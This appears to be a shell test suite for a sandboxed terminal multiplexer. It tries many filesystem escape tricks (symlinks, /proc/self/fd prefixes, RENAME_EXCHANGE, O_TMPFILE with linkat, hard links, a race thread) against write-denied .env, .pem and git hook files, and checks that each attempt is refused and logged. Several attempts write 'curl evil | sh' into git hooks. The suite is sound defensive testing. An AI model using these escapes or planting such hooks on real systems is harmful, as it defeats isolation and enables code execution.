#!/bin/sh
# Final-object escapes: a name rule or write-deny is decided on the file
# the kernel would really make or write, not on the path's spelling.
# Each attempt runs in a native `agent` pane through the real server and
# the real bubblewrap: symlinks with allowed names leading to denied
# ones, symlinked directories, ".." after a symlink, /proc/self/fd/N,
# /proc/PID/cwd and /proc/self/root prefixes, RENAME_EXCHANGE, O_TMPFILE
# then linkat, hard links, renames and mkdirs onto denied names, a dirfd
# into a write-denied directory, a plain write through a symlink, and a
# racer flipping an existing-file write to a protected file.
#
# The host then checks that the file was not made or changed, and that
# exactly one violation was reported for the attempt, naming the real
# target.  Exactly one: each attempt's wrapper ends by reading a
# sentinel under ~/.ssh, whose file-read* violation closes the window;
# the supervisor answers one call at a time and the log keeps its order,
# so the violations between two sentinels are that attempt's.
#
# All of it for a server run as root and one run as uid 65534
# (tests/native-ctx.sh), each with its own HOME, work tree and files,
# owned by that user: only the sandbox's rules may stop the writes.
#
# Mutation check: build/sandmux-spelling is the same server built with
# -DSV_SPELLING_ONLY (see docs/supervisor.md, "The mutation build"),
# which decides by the path's spelling.  The symlink attempts are run
# against it too, and must then succeed: the checks above would catch
# that regression.
. "$(dirname "$0")/../lib.sh"
ESCAPE_DIR=$(cd "$(dirname "$0")" && pwd)
BUILD_DIR=${SANDMUX_BUILD:-$(dirname "$SANDMUX_BIN")}

HOST_PATH=$PATH
. "$(dirname "$0")/../native-ctx.sh"
native_start final bwrap cc setpriv
BIN="$W/bin"
mkdir -p "$BIN"

if ! cc -O1 -pthread -o "$BIN/finalobj" "$ESCAPE_DIR/progs/finalobj.c" 2>"$W/cc.log"; then
	not_ok "finalobj.c compiles"
	cat "$W/cc.log"
	finish
fi

# setup_host: the current context's files the attempts aim at, made
# before its server starts and owned by its user.
#  - a repository nested in the work tree: its hooks exist only there, so
#    no mount protects them; only the supervisor's write-deny does;
#  - a repository at the root of the work tree (hooks bound read-only);
#  - a .env made by the host before the pane started;
#  - a host directory outside the writable roots (read-only inside).
setup_host() {
	H="$D/home"
	WORK="$D/work"
	RO="$D/ro"
	A="$D/attempts"
	R="$WORK/.r"
	LOG="$D/state/sandmux/events.jsonl"
	mkdir -p "$H/.ssh" "$RO" "$A" "$R" "$WORK/sub/.git/hooks" "$WORK/sub/.git/logs" \
		"$WORK/.git/hooks"
	chmod 777 "$R"
	HOOK="$WORK/sub/.git/hooks/pre-commit"
	echo "original hook" >"$HOOK"
	echo "original top hook" >"$WORK/.git/hooks/pre-commit"
	echo "SECRET=orig" >"$WORK/real.env"
	echo "ok file" >"$WORK/ok.txt"
	chmod 666 "$WORK/ok.txt"
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
	return 0
}

# attempt PANE NAME < SCRIPT: run SCRIPT in PANE's shell, in $WORK/NAME;
# $OUT gets its output and " rc=N".  The wrapper's last act is the
# sentinel read (see the header).
attempt() {
	mkdir -p "$WORK/$2"
	# the pane's own directory: only the rules may refuse what it makes there
	[ "$WHO" = nobody ] && chown 65534:65534 "$WORK/$2"
	cat >"$A/$2.sh"
	rm -f "$R/$2"
	cat >"$A/$2.run" <<EOF
cd "$WORK/$2" && sh "$A/$2.sh" >"$R/$2.tmp" 2>&1
echo " rc=\$?" >>"$R/$2.tmp"
cat "$H/.ssh/sentinel-$2" 2>/dev/null
mv "$R/$2.tmp" "$R/$2"
EOF
	$SM send-keys -t "%$1" "sh $A/$2.run" Enter
	if wait_for 30 test -f "$R/$2"; then
		OUT=$(cat "$R/$2")
	else
		OUT="(no result within 30 s)"
	fi
}
# The log as one stream, oldest first: the racers' thousands of
# violations may rotate it (events.jsonl.1, .2, ...).
log_all() { for f in "$LOG".5 "$LOG".4 "$LOG".3 "$LOG".2 "$LOG".1 "$LOG"; do cat "$f" 2>/dev/null; done; }
sentinel_in() { log_all | grep -qF "sentinel-$1\""; }
# violations NAME: the violation lines of the attempt NAME (after the
# previous sentinel, before NAME's own); empty until NAME's sentinel is in.
violations() {
	wait_for 5 sentinel_in "$1" || { echo "(no sentinel for $1)"; return; }
	# (kept in an array: a racer's window holds thousands of lines)
	log_all | awk -v me="sentinel-$1\"" '
		index($0, me) { exit }
		index($0, "/.ssh/sentinel-") { n = 0; next }
		/"kind":"violation"/ { v[++n] = $0 }
		END { for (i = 1; i <= n; i++) print v[i] }'
}
# one_violation NAME ACTION TARGET: exactly one, with that action and
# exactly that target.
one_violation() {
	V=$(violations "$1")
	n=$(printf '%s' "$V" | grep -c '"kind":"violation"')
	[ "$n" -eq 1 ] && printf '%s' "$V" | grep -qF "\"action\":\"$2\"" &&
		printf '%s' "$V" | grep -qF "\"target\":\"$3\""
}
absent() { [ ! -e "$1" ] && [ ! -L "$1" ]; }
same() { [ "$(cat "$1" 2>/dev/null)" = "$2" ]; }
both() { "$@"; }
out_has() { printf '%s\n' "$OUT" | grep -qF -- "$1"; }

# final NAME DESC ACTION TARGET CHECK...: the attempt NAME (already run)
# left the host as CHECK says and reported exactly one ACTION on TARGET.
final() {
	name=$1 desc=$2 action=$3 target=$4
	shift 4
	# The attempt must have run (its status line is there) for its
	# host-side check to mean anything.
	if out_has " rc=" && "$@"; then
		ok "$PROFILE: $desc: refused"
	else
		not_ok "$PROFILE: $desc: refused"
		printf '%s\n' "$OUT" | head -c 600 | sed 's/^/#   /'
	fi
	if one_violation "$name" "$action" "$target"; then
		ok "$PROFILE: $desc: one $action violation on $target"
	else
		not_ok "$PROFILE: $desc: one $action violation on $target"
		printf '%s\n' "${V:-(none)}" | head -c 1200 | sed 's/^/#   /'
	fi
}

newest_pane() { $SM ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
field_is() { [ "$(SM_FIELD "$1" "$2")" = "$3" ]; }
SM_FIELD() { pane_field "$@"; }
native_pane() {
	$SM split -t %1 -v -l 8 --backend native -c "$WORK" -e PS1='$ ' "$@" \
		-- /bin/bash --norc --noprofile >/dev/null 2>&1
	p=$(newest_pane)
	wait_for 10 field_is "$p" state warm
	echo "$p"
}

# --- the symlink attempts (also run against the mutation build) ----------------
# symlink_attempts PANE TAG: run them, named TAG-...
symlink_attempts() {
	# threat: the issue's attack: an allowed name that leads to a denied one
	attempt "$1" "$2-sym" <<'EOF'
ln -s c.env l && echo y >l
EOF
	# threat: a chain of links ending at a denied name
	attempt "$1" "$2-chain" <<'EOF'
ln -s l2 l1 && ln -s k.pem l2 && echo y >l1
EOF
	# threat: a link to a write-denied file nobody protects by mount
	attempt "$1" "$2-hook" <<EOF
ln -s $WORK/sub/.git/hooks/pre-push l && echo 'curl evil | sh' >l
EOF
	# threat: a write (no O_CREAT) through a link to an existing protected file
	attempt "$1" "$2-write" <<EOF
ln -s $HOOK l && $BIN/finalobj write l
EOF
	# threat: a hard link, through a symlink, to a protected file, written
	attempt "$1" "$2-linkfollow" <<EOF
ln -s $HOOK l && $BIN/finalobj linkfollow l alias
EOF
}
check_symlink_attempts() {
	T=$1
	final "$T-sym" "ln -s c.env l; echo y >l" file-write-create "$WORK/$T-sym/c.env" \
		absent "$WORK/$T-sym/c.env"
	final "$T-chain" "l1 -> l2 -> k.pem, echo y >l1" file-write-create "$WORK/$T-chain/k.pem" \
		absent "$WORK/$T-chain/k.pem"
	final "$T-hook" "symlink to a nested .git/hooks/pre-push, echo >l" file-write* \
		"$WORK/sub/.git/hooks/pre-push" absent "$WORK/sub/.git/hooks/pre-push"
	final "$T-write" "open(O_WRONLY) through a symlink to a nested hook" file-write* "$HOOK" \
		same "$HOOK" "original hook"
	final "$T-linkfollow" "linkat(AT_SYMLINK_FOLLOW) through a symlink to a nested hook" \
		file-write* "$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/$T-linkfollow/alias' ]"
}

# --- the rest (agent, and terminal where it has the rules) -----------------------
# pick CASE [NAME]: the real target of the attempt $T-CASE: with name
# patterns ($NAMES = 1), NAME in a directory of the attempt's own;
# without, a file named after the attempt in a nested .git/hooks.
pick() {
	if [ "$NAMES" = 1 ]; then
		TD="$WORK/$T-$1/a" N=$2 ACT=file-write-create
	else
		TD="$WORK/sub/.git/hooks" N="post-$T-$1" ACT=file-write*
	fi
}
other_attempts() {
	P=$1 T=$2
	# threat: a symlinked directory leading out of the writable roots
	attempt "$P" "$T-symdir-out" <<EOF
ln -s $RO d && echo x >d/planted
EOF
	final "$T-symdir-out" "symlinked dir to a read-only host dir, echo >d/planted" file-write* \
		"$RO/planted" absent "$RO/planted"
	# threat: a symlinked directory into a write-denied directory
	attempt "$P" "$T-symdir-hooks" <<EOF
ln -s $WORK/sub/.git/hooks h && echo 'curl evil | sh' >h/post-checkout
EOF
	final "$T-symdir-hooks" "symlinked dir to a nested .git/hooks, echo >h/post-checkout" \
		file-write* "$WORK/sub/.git/hooks/post-checkout" \
		absent "$WORK/sub/.git/hooks/post-checkout"
	# The forms below aim at a denied name in the agent profile (its
	# own directory, a name like e.env) and at a nested .git/hooks in
	# the terminal profile, which has write-denies but no name patterns.
	# threat: ".." after a symlink: the kernel climbs from the link's target
	if [ "$NAMES" = 1 ]; then
		pick dotdot d.env
		attempt "$P" "$T-dotdot" <<EOF
mkdir -p $TD/b && ln -s $TD/b s && echo y >s/../$N
EOF
	else
		pick dotdot
		attempt "$P" "$T-dotdot" <<EOF
ln -s $WORK/sub/.git/logs s && echo y >s/../hooks/$N
EOF
	fi
	final "$T-dotdot" "s -> a dir, echo y >s/../...$N" "$ACT" "$TD/$N" \
		both sh -c "[ ! -e '$TD/$N' ] && [ ! -e '$WORK/$T-dotdot/$N' ]"
	# threat: /proc/self/fd/N of a directory as a prefix
	pick procfd e.env
	attempt "$P" "$T-procfd" <<EOF
mkdir -p $TD && exec 3<$TD && echo y >/proc/self/fd/3/$N
EOF
	final "$T-procfd" "echo y >/proc/self/fd/3/$N" "$ACT" "$TD/$N" absent "$TD/$N"
	attempt "$P" "$T-procfd-hooks" <<EOF
exec 3<$WORK/sub/.git/hooks && echo 'curl evil | sh' >/proc/self/fd/3/pre-rebase
EOF
	final "$T-procfd-hooks" "echo >/proc/self/fd/3/pre-rebase (fd 3 a nested .git/hooks)" \
		file-write* "$WORK/sub/.git/hooks/pre-rebase" absent "$WORK/sub/.git/hooks/pre-rebase"
	# threat: /dev/fd/N, the same through /dev's link
	pick devfd f.env
	attempt "$P" "$T-devfd" <<EOF
mkdir -p $TD && exec 4<$TD && echo y >/dev/fd/4/$N
EOF
	final "$T-devfd" "echo y >/dev/fd/4/$N" "$ACT" "$TD/$N" absent "$TD/$N"
	# threat: /proc/PID/cwd of the shell (its pid inside the sandbox)
	pick proccwd g.env
	attempt "$P" "$T-proccwd" <<EOF
mkdir -p $TD && cd $TD && echo y >/proc/\$\$/cwd/$N
EOF
	final "$T-proccwd" "echo y >/proc/\$\$/cwd/$N" "$ACT" "$TD/$N" absent "$TD/$N"
	# threat: /proc/self/root as a prefix
	pick procroot h.env
	attempt "$P" "$T-procroot" <<EOF
mkdir -p $TD && echo y >/proc/self/root$TD/$N
EOF
	final "$T-procroot" "echo y >/proc/self/root/.../$N" "$ACT" "$TD/$N" absent "$TD/$N"
	# threat: an ordinary symlink leading to a magic link
	pick symproc i.env
	attempt "$P" "$T-symproc" <<EOF
mkdir -p $TD && exec 3<$TD && ln -s /proc/self/fd/3 m && echo y >m/$N
EOF
	final "$T-symproc" "m -> /proc/self/fd/3, echo y >m/$N" "$ACT" "$TD/$N" absent "$TD/$N"
	# threat: RENAME_EXCHANGE puts new contents under an existing denied name
	if [ "$NAMES" = 1 ]; then
		attempt "$P" "$T-exchange" <<EOF
echo fake >new && $BIN/finalobj exchange $WORK/real.env new
EOF
		final "$T-exchange" "renameat2(real.env, new, RENAME_EXCHANGE)" file-write-create \
			"$WORK/real.env" same "$WORK/real.env" "SECRET=orig"
	fi
	attempt "$P" "$T-exchange-hook" <<EOF
echo 'curl evil | sh' >new && $BIN/finalobj exchange new $HOOK
EOF
	final "$T-exchange-hook" "renameat2(new, nested pre-commit, RENAME_EXCHANGE)" file-write* \
		"$HOOK" same "$HOOK" "original hook"
	# threat: O_TMPFILE, then a name given by linkat through /proc/self/fd
	pick tmplink j.pem
	attempt "$P" "$T-tmplink" <<EOF
mkdir -p $TD && ln -s $TD d && $BIN/finalobj tmplink . d/$N
EOF
	final "$T-tmplink" "O_TMPFILE + linkat(/proc/self/fd/N, d/$N) (d -> the dir)" "$ACT" \
		"$TD/$N" absent "$TD/$N"
	pick tmpempty k.key
	attempt "$P" "$T-tmpempty" <<EOF
mkdir -p $TD && $BIN/finalobj tmpempty . $TD/$N
EOF
	final "$T-tmpempty" "O_TMPFILE + linkat(fd, \"\", $N, AT_EMPTY_PATH)" "$ACT" "$TD/$N" \
		absent "$TD/$N"
	attempt "$P" "$T-tmphook" <<EOF
$BIN/finalobj tmplink . $WORK/sub/.git/hooks/post-merge
EOF
	final "$T-tmphook" "O_TMPFILE + linkat into a nested .git/hooks" file-write* \
		"$WORK/sub/.git/hooks/post-merge" absent "$WORK/sub/.git/hooks/post-merge"
	# threat: a hard link is a second, unprotected name for a protected file
	attempt "$P" "$T-hardlink" <<EOF
ln $HOOK hl && echo evil >>hl
EOF
	final "$T-hardlink" "ln nested-pre-commit hl && echo >>hl" file-write* "$HOOK" \
		both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/$T-hardlink/hl' ]"
	attempt "$P" "$T-linkfd" <<EOF
$BIN/finalobj linkfd $HOOK alias
EOF
	final "$T-linkfd" "linkat(/proc/self/fd/N of an O_PATH nested hook, alias)" file-write* \
		"$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/$T-linkfd/alias' ]"
	# threat: reopening an O_PATH fd of a protected file for writing
	attempt "$P" "$T-reopen" <<EOF
$BIN/finalobj reopen $HOOK
EOF
	final "$T-reopen" "open(/proc/self/fd/N, O_WRONLY) of an O_PATH nested hook" file-write* \
		"$HOOK" same "$HOOK" "original hook"
	# threat: rename onto a write-denied name, and onto a denied name
	# through a symlinked directory
	attempt "$P" "$T-rename-hook" <<EOF
echo 'curl evil | sh' >t && mv -f t $WORK/sub/.git/hooks/pre-applypatch
EOF
	final "$T-rename-hook" "mv t nested .git/hooks/pre-applypatch" file-write* \
		"$WORK/sub/.git/hooks/pre-applypatch" absent "$WORK/sub/.git/hooks/pre-applypatch"
	pick rename-name l.env
	attempt "$P" "$T-rename-name" <<EOF
mkdir -p $TD && ln -s $TD d && echo y >t && mv t d/$N
EOF
	final "$T-rename-name" "mv t d/$N (d -> the dir)" "$ACT" "$TD/$N" absent "$TD/$N"
	# threat: making a write-denied directory, directly and through a link
	attempt "$P" "$T-mkdir" <<'EOF'
mkdir -p r/.git && mkdir r/.git/hooks
EOF
	final "$T-mkdir" "mkdir r/.git/hooks" file-write* "$WORK/$T-mkdir/r/.git/hooks" \
		absent "$WORK/$T-mkdir/r/.git/hooks"
	attempt "$P" "$T-mkdir-link" <<'EOF'
mkdir -p r/.git && ln -s r/.git g && mkdir g/hooks
EOF
	final "$T-mkdir-link" "mkdir g/hooks (g -> r/.git)" file-write* \
		"$WORK/$T-mkdir-link/r/.git/hooks" absent "$WORK/$T-mkdir-link/r/.git/hooks"
	# threat: mknod and symlink onto a denied name through a symlinked directory
	pick mknod m.env
	attempt "$P" "$T-mknod" <<EOF
mkdir -p $TD && ln -s $TD d && mkfifo d/$N
EOF
	final "$T-mknod" "mkfifo d/$N (d -> the dir)" "$ACT" "$TD/$N" absent "$TD/$N"
	pick symlink n.pem
	attempt "$P" "$T-symlink" <<EOF
mkdir -p $TD && ln -s $TD d && ln -s anything d/$N
EOF
	final "$T-symlink" "ln -s anything d/$N (d -> the dir)" "$ACT" "$TD/$N" absent "$TD/$N"
	# threat: openat with a dirfd inside a write-denied directory
	attempt "$P" "$T-dirfd" <<EOF
$BIN/finalobj dirfd $WORK/sub/.git/hooks post-rewrite
EOF
	final "$T-dirfd" "openat(fd of nested .git/hooks, post-rewrite, O_CREAT)" file-write* \
		"$WORK/sub/.git/hooks/post-rewrite" absent "$WORK/sub/.git/hooks/post-rewrite"
}

# threat: a racing thread swaps the path of a checked write to an
# existing file for a protected one (CONTINUE would let the kernel
# re-read it after the check)
race_attempt() {
	echo "ok file" >"$WORK/ok.txt"
	attempt "$1" "$2-race" <<EOF
$BIN/finalobj race 20000 $WORK/ok.txt $HOOK
EOF
	check "$NAME/$2: 20,000 racing writes flipping ok.txt / a nested hook leave the hook unchanged" \
		same "$HOOK" "original hook"
	check "$NAME/$2: ... and the racer ran (ok.txt was written through the emulated opens)" race_ran
}
race_ran() { grep -q evil "$WORK/ok.txt" && out_has "race: 20000 opens done"; }

SM=sm
for who in root nobody; do
	ctx "$who" "$who"
	setup_host
	sm new -d -s fin -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null

	# --- agent --------------------------------------------------------------
	PROFILE="$NAME/agent"
	G=$(native_pane --profile agent)
	if ! field_is "$G" backend native; then
		not_ok "$NAME: an agent pane starts ($(pane_field "$G" reason))"
		finish
	fi
	# The sentinels need the supervisor (a denied read reported).
	attempt "$G" probe <<'EOF'
true
EOF
	if ! wait_for 5 sentinel_in probe; then
		not_ok "$NAME: the agent pane is supervised (its sentinel read was reported)"
		finish
	fi
	ok "$NAME: setup: agent pane $G, supervised"
	symlink_attempts "$G" agent
	check_symlink_attempts agent
	NAMES=1
	other_attempts "$G" agent
	race_attempt "$G" agent

	# --- terminal, where the host-run lists make these refusals -------------
	PROFILE="$NAME/terminal"
	TP=$(native_pane)
	attempt "$TP" terminal-probe <<EOF
echo x >$WORK/sub/.git/hooks/probe
EOF
	if [ -e "$WORK/sub/.git/hooks/probe" ]; then
		not_ok "$NAME: the terminal profile refuses a write into a nested .git/hooks"
	else
		symlink_attempts "$TP" term
		# The c.env/k.pem names are agent rules; terminal keeps the
		# write-deny ones.
		final term-hook "symlink to a nested .git/hooks/pre-push, echo >l" file-write* \
			"$WORK/sub/.git/hooks/pre-push" absent "$WORK/sub/.git/hooks/pre-push"
		final term-write "open(O_WRONLY) through a symlink to a nested hook" file-write* \
			"$HOOK" same "$HOOK" "original hook"
		final term-linkfollow "linkat(AT_SYMLINK_FOLLOW) through a symlink to a nested hook" \
			file-write* "$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/term-linkfollow/alias' ]"
		NAMES=0
		other_attempts "$TP" term
		race_attempt "$TP" terminal
	fi
	sm kill-server >/dev/null 2>&1
done

# --- the mutation check ----------------------------------------------------------
PROFILE=mutant
if [ ! -x "$BUILD_DIR/sandmux-spelling" ]; then
	not_ok "the mutation build $BUILD_DIR/sandmux-spelling exists (make build-tests builds it)"
	finish
fi
# (as root: what it shows does not depend on the user)
ctx mut root
setup_host
SANDMUX_BIN="$BUILD_DIR/sandmux-spelling"
sm new -d -s mut -x 200 -y 60 -c "$WORK" -e PS1='$ ' -- /bin/bash --norc --noprofile >/dev/null
M=$(native_pane --profile agent)
if ! field_is "$M" backend native; then
	not_ok "mutant: an agent pane starts ($(pane_field "$M" reason))"
	finish
fi
symlink_attempts "$M" mut
check "mutant: spelling-only, ln -s c.env l; echo y >l creates c.env (the check above catches it)" \
	test -e "$WORK/mut-sym/c.env"
check "mutant: spelling-only, a link chain creates k.pem" test -e "$WORK/mut-chain/k.pem"
check "mutant: spelling-only, echo >l creates the nested hook pre-push" \
	test -e "$WORK/sub/.git/hooks/pre-push"
check "mutant: spelling-only, a write through a symlink changes the nested hook" \
	grep -q evil "$HOOK"
finish
